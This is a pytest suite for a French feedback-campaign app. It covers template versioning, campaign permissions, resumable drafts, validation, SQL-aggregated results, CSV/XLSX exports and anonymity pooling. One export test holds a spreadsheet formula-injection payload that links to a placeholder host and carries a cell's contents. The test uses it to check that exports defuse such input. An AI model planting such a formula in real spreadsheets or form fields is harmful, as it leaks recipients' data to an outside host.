"""Feedback store and services, on SQLite and PostgreSQL: templates versioned, campaigns
opened by the right people only, drafts that survive, submissions checked, results in SQL."""

from __future__ import annotations

import copy
import csv
import io
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
import sqlalchemy as sa

from lib.access import Role
from lib.domain import clock, forms
from lib.domain.anonymity import POOLED
from lib.domain.errors import PermissionDenied, ValidationFailed
from lib.services import feedback
from lib.services.feedback import AlreadySent, CampaignState, CampaignUnavailable
from lib.store import feedback as store
from lib.store import tables
from tests.conftest import count_rows
from tests.factories import (
    SHORT_TEMPLATE,
    make_actor,
    make_campaign,
    make_response,
    make_template,
    make_territory,
)

TODAY = clock.today()
VALID = {"mood": 4, "topics": ["food", "energy"], "story": "Bien", "partners": 2, "outcome": "agreed"}


@pytest.fixture
def world(engine):
    """Two territories; on the first an admin and a reader; a coordinator; an open campaign."""
    here, elsewhere = make_territory(engine, "Loos"), make_territory(engine, "Ailleurs")
    campaign_id, token = make_campaign(engine, here)
    return {
        "engine": engine,
        "here": here,
        "elsewhere": elsewhere,
        "admin": make_actor(engine, Role.TERRITORY_ADMIN, here),
        "reader": make_actor(engine, Role.READER, here),
        "other_admin": make_actor(engine, Role.TERRITORY_ADMIN, elsewhere),
        "coordinator": make_actor(engine, Role.COORDINATOR, None),
        "campaign_id": campaign_id,
        "token": token,
    }


def _template_rows(engine, slug):
    with engine.connect() as conn:
        return conn.execute(
            sa.select(tables.form_template)
            .where(tables.form_template.c.slug == slug)
            .order_by(tables.form_template.c.version)
        ).all()


# --- templates ------------------------------------------------------------------------------


def test_shipped_templates_are_stored_once(engine):
    feedback.ensure_templates(engine)
    feedback.ensure_templates(engine)
    assert {r.slug for r in _template_rows(engine, "raconter-la-cooperation")} == {"raconter-la-cooperation"}
    assert count_rows(engine, tables.form_template) == len(forms.load_templates())


def test_a_coordinator_rewording_keeps_the_shipped_version_then_refines_their_own_in_place(world):
    engine = world["engine"]
    edited = copy.deepcopy(SHORT_TEMPLATE)
    edited["title"]["fr"] = "Essai court, reformulé"
    assert feedback.edit_template(engine, world["coordinator"], edited)[1] == 2
    edited["title"]["fr"] = "Essai court, reformulé encore"
    assert feedback.edit_template(engine, world["coordinator"], edited)[1] == 2  # nobody answered v2
    rows = _template_rows(engine, "essai-court")
    assert [(r.version, r.title_fr) for r in rows] == [
        (1, "Essai court"),
        (2, "Essai court, reformulé encore"),
    ]


def test_restarting_the_app_never_undoes_a_coordinators_wording(engine):
    feedback.ensure_templates(engine)
    shipped = next(tpl for tpl in forms.load_templates() if tpl.slug == "raconter-la-cooperation")
    coordinator = make_actor(engine, Role.COORDINATOR, None)
    edited = copy.deepcopy(shipped.raw)
    edited["title"]["fr"] = "Raconter notre coopération"
    _, version = feedback.edit_template(engine, coordinator, edited)

    feedback.ensure_templates(engine)  # what every start of the app does

    newest = _template_rows(engine, "raconter-la-cooperation")[-1]
    assert (newest.version, newest.title_fr) == (version, "Raconter notre coopération")


def test_editing_an_answered_template_makes_a_new_version_and_keeps_the_old_one(world):
    engine = world["engine"]
    make_response(engine, world["campaign_id"], "inhabitant", VALID)
    edited = copy.deepcopy(SHORT_TEMPLATE)
    edited["sections"][0]["questions"][0]["label"]["fr"] = "Votre humeur, aujourd’hui"
    template_id, version = feedback.edit_template(engine, world["coordinator"], edited)
    assert version == 2
    rows = _template_rows(engine, "essai-court")
    assert [r.version for r in rows] == [1, 2]
    assert rows[0].content == SHORT_TEMPLATE  # the answered version is untouched
    assert rows[1].id == template_id and rows[1].content == edited
    # Saving the same edit again changes nothing; the campaign keeps answering version 1.
    assert feedback.edit_template(engine, world["coordinator"], edited) == (template_id, 2)
    assert feedback.public_campaign(engine, world["token"]).template.question("mood").label.fr == (
        "Votre humeur sur la coopération"
    )


def test_only_a_coordinator_edits_templates(world):
    with pytest.raises(PermissionDenied):
        feedback.edit_template(world["engine"], world["admin"], copy.deepcopy(SHORT_TEMPLATE))


# --- campaigns ------------------------------------------------------------------------------


def _open(world, who="admin", territory="here", **values):
    template_id = make_template(world["engine"])
    params = {
        "territory_id": world[territory] if territory else None,
        "template_id": template_id,
        "title": "Retour sur l’année",
        "opens_on": TODAY,
        "closes_on": TODAY + timedelta(days=20),
    } | values
    return feedback.open_campaign(world["engine"], world[who], **params)


def test_a_territory_admin_opens_a_campaign_with_an_unguessable_link(world):
    first, second = _open(world), _open(world)
    assert first.state == CampaignState.OPEN and first.territory_id == world["here"]
    assert len(first.share_token) >= 32 and first.share_token != second.share_token
    with world["engine"].connect() as conn:
        actions = conn.execute(sa.select(tables.activity_log.c.action)).scalars().all()
    assert actions.count("campaign.opened") == 2


@pytest.mark.parametrize(
    ("who", "territory"),
    [("reader", "here"), ("other_admin", "here"), ("admin", None)],
    ids=["reader", "admin of another territory", "admin network-wide"],
)
def test_campaigns_are_refused_to_those_without_the_right(world, who, territory):
    before = count_rows(world["engine"], tables.campaign)
    with pytest.raises(PermissionDenied):
        _open(world, who, territory)
    assert count_rows(world["engine"], tables.campaign) == before


def test_a_coordinator_opens_a_network_wide_campaign(world):
    assert _open(world, "coordinator", None).territory_id is None


def test_a_campaign_form_reports_every_problem_at_once(world):
    with pytest.raises(ValidationFailed) as caught:
        _open(world, title="  ", opens_on=TODAY, closes_on=TODAY - timedelta(days=1), template_id=None)
    assert {k: e.code for k, e in caught.value.errors.items()} == {
        "title": "error.required",
        "template_id": "error.required",
        "closes_on": "feedback.error.closes_before_opens",
    }


def test_a_share_link_says_whether_the_campaign_is_open(world):
    engine, here = world["engine"], world["here"]
    _, soon = make_campaign(
        engine, here, opens_on=TODAY + timedelta(days=3), closes_on=TODAY + timedelta(days=9)
    )
    _, past = make_campaign(
        engine, here, opens_on=TODAY - timedelta(days=9), closes_on=TODAY - timedelta(days=1)
    )
    assert feedback.public_campaign(engine, "no-such-token").state == CampaignState.UNKNOWN
    assert feedback.public_campaign(engine, "").state == CampaignState.UNKNOWN
    assert feedback.public_campaign(engine, soon).state == CampaignState.NOT_YET_OPEN
    assert feedback.public_campaign(engine, past).state == CampaignState.CLOSED
    assert feedback.public_campaign(engine, world["token"]).state == CampaignState.OPEN
    # The closing day itself is still open; the next one is not.
    closes = feedback.public_campaign(engine, past).closes_on
    assert feedback.public_campaign(engine, past, today=closes).state == CampaignState.OPEN
    unknown = feedback.public_campaign(engine, "no-such-token")
    assert unknown.title is None and unknown.template is None


def test_members_see_their_territory_and_network_campaigns_only(world):
    engine = world["engine"]
    make_campaign(engine, world["elsewhere"], title="Chez les voisins")
    make_campaign(engine, None, title="Tout le réseau")
    titles = {c.title for c in feedback.list_campaigns(engine, world["reader"])}
    assert titles == {"Campagne d’essai", "Tout le réseau"}
    assert {c.title for c in feedback.results_campaigns(engine, world["reader"])} == {"Campagne d’essai"}
    assert len(feedback.list_campaigns(engine, world["coordinator"])) == 3
    assert feedback.list_campaigns(engine, None) == []


# --- answering ------------------------------------------------------------------------------


def test_a_draft_is_saved_step_by_step_and_resumed_with_its_code(world):
    engine, token = world["engine"], world["token"]
    draft = feedback.start_response(engine, token, "state_services")
    assert len(draft.resume_code) == 12 and draft.answers == {}
    feedback.save_draft(engine, token, draft.resume_code, {"mood": 2, "topics": ["food"]}, step=2)
    # Typed with dashes and in lower case, as people copy codes.
    resumed = feedback.resume_response(engine, token, feedback.format_code(draft.resume_code).lower())
    assert resumed.answers == {"mood": 2, "topics": ["food"]} and resumed.step == 2
    assert resumed.role == "state_services"
    # Emptying a field in a later save empties it in the draft too.
    feedback.save_draft(engine, token, draft.resume_code, {"topics": []})
    assert feedback.resume_response(engine, token, draft.resume_code).answers == {"mood": 2}
    assert count_rows(engine, tables.answer) == 0  # drafts are not counted anywhere


def test_an_unknown_resume_code_is_refused_on_its_field(world):
    with pytest.raises(ValidationFailed) as caught:
        feedback.resume_response(world["engine"], world["token"], "AAAA-BBBB-CCCC")
    assert caught.value.errors["resume_code"].code == "feedback.error.resume_unknown"


def test_a_resume_code_only_works_on_its_own_campaign(world):
    engine = world["engine"]
    _, other_token = make_campaign(engine, world["here"])
    draft = feedback.start_response(engine, world["token"], "inhabitant")
    with pytest.raises(ValidationFailed):
        feedback.resume_response(engine, other_token, draft.resume_code)


def test_the_role_must_be_one_of_the_six_hats(world):
    for role, code in ((None, "error.required"), ("mayor", forms.NOT_OFFERED)):
        with pytest.raises(ValidationFailed) as caught:
            feedback.start_response(world["engine"], world["token"], role)
        assert caught.value.errors["role"].code == code
    assert count_rows(world["engine"], tables.response) == 0


def test_submitting_reports_every_problem_at_once_and_keeps_what_was_typed(world):
    engine, token = world["engine"], world["token"]
    draft = feedback.start_response(engine, token, "elected_official")
    typed = {"mood": 7, "topics": ["energy", "housing"], "story": "x" * 25, "partners": 12, "outcome": "lost"}
    with pytest.raises(ValidationFailed) as caught:
        feedback.submit_response(engine, token, draft.resume_code, typed)
    assert {k: e.code for k, e in caught.value.errors.items()} == {
        "q.mood": forms.OUT_OF_RANGE,
        "q.topics": forms.NOT_OFFERED,
        "q.story": forms.TOO_LONG,
        "q.partners": forms.OUT_OF_RANGE,
        "q.outcome": forms.NOT_OFFERED,
    }
    kept = feedback.resume_response(engine, token, draft.resume_code)
    assert kept.answers == typed and not kept.submitted
    assert count_rows(engine, tables.answer) == 0


def test_submitting_with_required_answers_missing_names_each_of_them(world):
    engine, token = world["engine"], world["token"]
    draft = feedback.start_response(engine, token, "inhabitant")
    with pytest.raises(ValidationFailed) as caught:
        feedback.submit_response(engine, token, draft.resume_code, {"topics": ["food"]})
    assert {k: e.code for k, e in caught.value.errors.items()} == {
        "q.mood": "error.required",
        "q.story": "error.required",
    }


def test_a_valid_submission_stores_one_row_per_answer_and_the_raw_document(world):
    engine, token = world["engine"], world["token"]
    draft = feedback.start_response(engine, token, "socio_economic")
    feedback.save_draft(engine, token, draft.resume_code, {"mood": 4, "topics": ["food", "energy"]})
    done = feedback.submit_response(engine, token, draft.resume_code, {"story": " Bien ", "partners": 2})
    assert done.submitted
    with engine.connect() as conn:
        rows = conn.execute(
            sa.select(
                tables.answer.c.question_id, tables.answer.c.numeric_value, tables.answer.c.text_value
            ).order_by(tables.answer.c.id)
        ).all()
        response = conn.execute(sa.select(tables.response)).one()
    assert [tuple(r) for r in rows] == [
        ("mood", 4.0, None),
        ("topics", None, "energy"),
        ("topics", None, "food"),
        ("story", None, "Bien"),
        ("partners", 2.0, None),
    ]
    assert response.status == "submitted" and response.submitted_at is not None
    assert response.document["answers"] == {
        "mood": 4,
        "topics": ["energy", "food"],
        "story": "Bien",
        "partners": 2,
    }
    assert response.document["template_slug"] == "essai-court" and response.person_id is None
    # A submitted response can be neither resumed nor submitted again.
    with pytest.raises(ValidationFailed) as caught:
        feedback.resume_response(engine, token, draft.resume_code)
    assert caught.value.errors["resume_code"].code == "feedback.error.already_submitted"
    with pytest.raises(AlreadySent):
        feedback.submit_response(engine, token, draft.resume_code, VALID)


def test_nothing_can_be_saved_to_a_closed_or_unknown_campaign(world):
    engine = world["engine"]
    draft = feedback.start_response(engine, world["token"], "other")
    closed_day = TODAY + timedelta(days=31)
    with pytest.raises(CampaignUnavailable) as caught:
        feedback.submit_response(engine, world["token"], draft.resume_code, VALID, today=closed_day)
    assert caught.value.params == {"state": "closed"}
    with pytest.raises(CampaignUnavailable):
        feedback.start_response(engine, "no-such-token", "other")
    assert not feedback.resume_response(engine, world["token"], draft.resume_code).submitted


def test_an_anonymous_campaign_never_links_a_member_and_a_named_one_does(world):
    engine, reader = world["engine"], world["reader"]
    draft = feedback.start_response(engine, world["token"], "local_agent", actor=reader)
    _, named = make_campaign(engine, world["here"], anonymous=False)
    with pytest.raises(ValidationFailed) as caught:
        feedback.start_response(engine, named, "local_agent", actor=reader)
    assert caught.value.errors["respondent_name"].code == "error.required"
    signed = feedback.start_response(engine, named, "local_agent", respondent_name="Nadia B.", actor=reader)
    with engine.connect() as conn:
        people = dict(
            conn.execute(sa.select(tables.response.c.resume_code, tables.response.c.person_id)).all()
        )
    assert people[draft.resume_code] is None and people[signed.resume_code] == reader.person_id
    assert signed.respondent_name == "Nadia B."


def test_a_member_of_another_territory_cannot_answer_from_inside_the_app(world):
    with pytest.raises(PermissionDenied):
        feedback.start_response(world["engine"], world["token"], "local_agent", actor=world["other_admin"])


# --- results --------------------------------------------------------------------------------


def _at(day: date, hour: int = 10) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


def test_results_aggregate_in_sql_to_the_hand_computed_figures(world):
    engine = world["engine"]
    # Named: every role is shown as it is (anonymous pooling is tested in test_anonymity.py).
    campaign_id, _ = make_campaign(engine, world["here"], anonymous=False)
    d1, d2 = date(2026, 3, 2), date(2026, 3, 4)
    # mood by role — elected: 5, 5, 4 ; State services: 2, 2 ; inhabitant: 1.
    for role, mood, day in [
        ("elected_official", 5, d1),
        ("elected_official", 5, d1),
        ("elected_official", 4, d2),
        ("state_services", 2, d2),
        ("state_services", 2, d2),
        ("inhabitant", 1, d2),
    ]:
        make_response(engine, campaign_id, role, VALID | {"mood": mood}, submitted_at=_at(day))
    make_response(engine, campaign_id, "inhabitant", {"mood": 5}, status="draft")
    res = feedback.results(engine, world["reader"], campaign_id, min_answers=2)
    assert res.submitted == 6 and res.drafts == 1
    # By hand: elected mean 14/3, State services 2 → gap 8/3 on a 1–5 scale, share 2/3.
    gap = res.gaps.iloc[0]
    assert (gap.question_id, gap.high_role, gap.low_role) == ("mood", "elected_official", "state_services")
    assert gap.gap == pytest.approx(8 / 3) and gap.gap_share == pytest.approx(2 / 3)
    assert res.counts_table.to_dict("records") == [
        {"day": d1, "elected_official": 2, "state_services": 0, "inhabitant": 0, "total": 2},
        {"day": d2, "elected_official": 1, "state_services": 2, "inhabitant": 1, "total": 4},
    ]
    topics = res.choices[(res.choices["question_id"] == "topics") & (res.choices["option"] == "food")]
    assert int(topics["answers"].sum()) == 6
    assert res.texts["story"][0] == ("elected_official", ["Bien", "Bien", "Bien"])
    # The period filter counts submission days, both ends included.
    assert feedback.results(engine, world["reader"], campaign_id, start=d2, end=d2).submitted == 4
    assert feedback.results(engine, world["reader"], campaign_id, end=d1).submitted == 2


def test_results_and_exports_need_the_right_to_read_them(world):
    engine, campaign_id = world["engine"], world["campaign_id"]
    for call in (feedback.results, feedback.export_csv, feedback.export_xlsx):
        with pytest.raises(PermissionDenied):
            call(engine, world["other_admin"], campaign_id)
        with pytest.raises(PermissionDenied):
            call(engine, None, campaign_id)
    with pytest.raises(PermissionDenied):
        feedback.results(engine, world["other_admin"], 999_999)  # existence is not disclosed


def test_exports_have_one_row_per_response_and_one_column_per_question(world):
    engine = world["engine"]
    campaign_id, _ = make_campaign(engine, world["here"], anonymous=False)  # roles and times as they are
    make_response(engine, campaign_id, "inhabitant", VALID)
    make_response(engine, campaign_id, "state_services", {"mood": 1, "story": "Non; pas encore"})
    make_response(engine, campaign_id, "local_agent", {"mood": 3}, status="draft")
    csv_text = feedback.export_csv(engine, world["admin"], campaign_id).decode("utf-8-sig")
    lines = csv_text.strip().splitlines()
    header = "response_id;role;started_at;submitted_at;respondent_name;mood;topics;story;partners;outcome"
    assert lines[0] == header and len(lines) == 3
    assert lines[1].split(";")[1] == "inhabitant" and ";4;energy|food;Bien;2;agreed" in lines[1]
    assert '"Non; pas encore"' in lines[2]  # a separator inside an answer is quoted
    book = openpyxl.load_workbook(io.BytesIO(feedback.export_xlsx(engine, world["admin"], campaign_id)))
    assert book.sheetnames == ["reponses", "codes"]
    rows = list(book["reponses"].values)
    assert ";".join(rows[0]) == header and len(rows) == 3
    codes = {(kind, ident): fr for kind, ident, fr, _en in list(book["codes"].values)[1:]}
    assert codes[("question", "mood")] == "Votre humeur sur la coopération"
    assert codes[("role", "state_services")].startswith("Services de l’État")


def test_exports_in_a_language_give_wordings_and_labels_and_keep_the_codes_for_scripts(world):
    engine = world["engine"]
    campaign_id, _ = make_campaign(engine, world["here"], anonymous=False)
    make_response(engine, campaign_id, "state_services", VALID)

    french = _csv(engine, world["admin"], campaign_id, "fr")
    assert french[0]["Rôle"].startswith("Services de l’État")
    assert french[0]["Votre humeur sur la coopération"] == "4"
    assert french[0]["Sujets abordés"] == "Énergie ; Alimentation"  # in the template's order
    english = _csv(engine, world["admin"], campaign_id, "en")
    assert english[0]["Role"].startswith("State services")
    assert english[0]["Topics discussed"] == "Energy ; Food"

    book = openpyxl.load_workbook(
        io.BytesIO(feedback.export_xlsx(engine, world["admin"], campaign_id, lang="en"))
    )
    assert book.sheetnames == ["Responses", "reponses", "codes"]
    header = [cell.value for cell in next(book["Responses"].iter_rows())]
    assert header[:2] == ["Response no.", "Role"] and "Topics discussed" in header
    codes = dict(zip(*list(book["reponses"].values)[:2], strict=True))
    assert codes["topics"] == "energy|food" and codes["role"] == "state_services"


def _csv(engine, actor, campaign_id, lang) -> list[dict[str, str]]:
    text = feedback.export_csv(engine, actor, campaign_id, lang=lang).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_store_lists_campaigns_with_their_submitted_counts(world):
    engine, campaign_id = world["engine"], world["campaign_id"]
    make_response(engine, campaign_id, "inhabitant", VALID)
    make_response(engine, campaign_id, "inhabitant", {"mood": 3}, status="draft")
    with engine.connect() as conn:
        rows = store.list_campaigns(conn, [world["here"]])
        assert store.list_campaigns(conn, [world["elsewhere"]]) == []
    assert [(r.id, r.submitted_count) for r in rows] == [(campaign_id, 1)]


def test_exports_never_turn_typed_text_into_a_spreadsheet_formula(world):
    engine, campaign_id = world["engine"], world["campaign_id"]
    attack = '=HYPERLINK("http://example.invalid/?d="&A2,"Cliquez")'
    make_response(engine, campaign_id, "inhabitant", {"mood": 2, "story": attack})
    make_response(engine, campaign_id, "other", {"mood": 3, "story": "-1 ou +1, selon"})

    csv_rows = feedback.export_csv(engine, world["admin"], campaign_id).decode("utf-8-sig").splitlines()
    stories = [row.split(";")[7] for row in csv_rows[1:]]
    assert all(story.lstrip('"').startswith("'") for story in stories), stories

    book = openpyxl.load_workbook(io.BytesIO(feedback.export_xlsx(engine, world["admin"], campaign_id)))
    header, *rows = list(book["reponses"].iter_rows())
    column = [cell.value for cell in header].index("story")
    cells = [row[column] for row in rows]
    assert [cell.data_type for cell in cells] == ["s", "s"]  # text, never "f" (a formula)
    assert {cell.value for cell in cells} == {"'" + attack, "'-1 ou +1, selon"}


def test_a_period_is_a_french_day_in_results_and_exports(world):
    engine = world["engine"]
    campaign_id, _ = make_campaign(engine, world["here"], anonymous=False)  # roles as they are
    # 23:30 UTC on 9 March is 00:30 on 10 March in Paris (UTC+1 in winter).
    make_response(
        engine, campaign_id, "inhabitant", {"mood": 4}, submitted_at=datetime(2026, 3, 9, 23, 30, tzinfo=UTC)
    )
    make_response(
        engine, campaign_id, "other", {"mood": 2}, submitted_at=datetime(2026, 3, 9, 22, 30, tzinfo=UTC)
    )

    tenth = feedback.results(
        engine, world["admin"], campaign_id, start=date(2026, 3, 10), end=date(2026, 3, 10)
    )
    assert tenth.submitted == 1
    assert list(tenth.counts["day"].dt.date) == [date(2026, 3, 10)]
    assert list(tenth.counts["role"]) == ["inhabitant"]
    both = feedback.results(
        engine, world["admin"], campaign_id, start=date(2026, 3, 9), end=date(2026, 3, 10)
    )
    assert sorted(zip(both.counts["day"].dt.date, both.counts["role"], strict=True)) == [
        (date(2026, 3, 9), "other"),
        (date(2026, 3, 10), "inhabitant"),
    ]
    _, _, table = feedback.export_table(
        engine, world["admin"], campaign_id, date(2026, 3, 10), date(2026, 3, 10)
    )
    assert list(table["role"]) == ["inhabitant"]


def test_campaigns_can_be_narrowed_to_one_territory_in_the_query(world):
    engine = world["engine"]
    make_campaign(engine, world["elsewhere"], title="Chez les voisins")
    make_campaign(engine, None, title="Tout le réseau")
    coordinator = world["coordinator"]
    here = {c.title for c in feedback.list_campaigns(engine, coordinator, territory_ids=[world["here"]])}
    assert here == {"Campagne d’essai", "Tout le réseau"}
    network_only = feedback.results_campaigns(engine, coordinator, territory_ids=[])
    assert [c.title for c in network_only] == ["Tout le réseau"]
    # Narrowing never widens: a reader asking for another territory gets only the network's.
    theirs = feedback.list_campaigns(engine, world["reader"], territory_ids=[world["elsewhere"]])
    assert [c.title for c in theirs] == ["Tout le réseau"]


@pytest.mark.parametrize("anonymous", [True, False], ids=["anonymous", "named"])
def test_in_an_anonymous_campaign_a_lone_role_is_not_named_beside_its_words(engine, anonymous):
    here = make_territory(engine, "Loos")
    campaign_id, _ = make_campaign(engine, here, anonymous=anonymous)
    admin = make_actor(engine, Role.TERRITORY_ADMIN, here)
    for story in ("Un", "Deux", "Trois"):
        make_response(engine, campaign_id, "inhabitant", {"mood": 3, "story": story})
    make_response(engine, campaign_id, "elected_official", {"mood": 1, "story": "Seul élu"})
    for story in ("Autre", "Encore"):
        make_response(engine, campaign_id, "other", {"mood": 2, "story": story})

    texts = dict(feedback.results(engine, admin, campaign_id).texts["story"])

    assert sorted(texts["inhabitant"]) == ["Deux", "Trois", "Un"]  # three answers: named
    if anonymous:  # the lone elected official is pooled with the two "other" answers
        assert "elected_official" not in texts and texts[POOLED] == ["Autre", "Encore", "Seul élu"]
    else:
        assert texts["elected_official"] == ["Seul élu"] and POOLED not in texts
